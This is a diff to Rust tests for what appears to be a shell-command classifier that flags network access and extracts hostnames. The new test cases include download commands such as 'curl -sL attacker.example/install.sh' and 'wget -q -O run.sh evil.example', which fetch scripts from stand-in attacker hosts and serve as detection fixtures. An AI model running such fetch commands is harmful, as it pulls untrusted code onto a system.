@@ -138,6 +138,11 @@ fn network() {
         "psql -h db.attacker.example -U postgres",
         "irb -rsocket",
         "perl -MIO::Socket::INET -e 1",
+        "wget attacker.example/x",
+        "curl -sL attacker.example/install.sh",
+        "curl 203.0.113.9:8000/p",
+        "wget -q -O run.sh evil.example",
+        "aria2c mirror.attacker.example/f.bin",
     ] {
         assert!(caps(line).contains(&"network"), "{line}: {:?}", caps(line));
     }
@@ -159,6 +164,10 @@ fn network() {
         "gh pr create --title 'Close the socket on error' --body 'see #12'",
         "python3 -m pytest tests/test_socket.py",
         "node -e 'console.log(require(\"http\").STATUS_CODES[404])'",
+        "curl -o out.json localhost:8080/api",
+        "curl -sSo report.json 127.0.0.1:8080/status",
+        "wget -i urls.txt -P downloads",
+        "curl -d @body.json -H 'Content-Type: application/json' localhost:3000/x",
     ] {
         assert!(!caps(line).contains(&"network"), "{line}: {:?}", caps(line));
     }
@@ -171,6 +180,11 @@ fn bare_hosts_are_found() {
         bare_hosts(&cmd, &mut hosts);
     }
     assert_eq!(hosts, ["10.1.2.3", "attacker.example", "evil.example"]);
+    let mut fetched = Vec::new();
+    for cmd in split("curl -o out.json evil.example:8080/x; wget mirror.example/f") {
+        bare_hosts(&cmd, &mut fetched);
+    }
+    assert_eq!(fetched, ["evil.example", "mirror.example"]);
     let mut none = Vec::new();
     for cmd in split("cat README.md && cargo test --release") {
         bare_hosts(&cmd, &mut none);
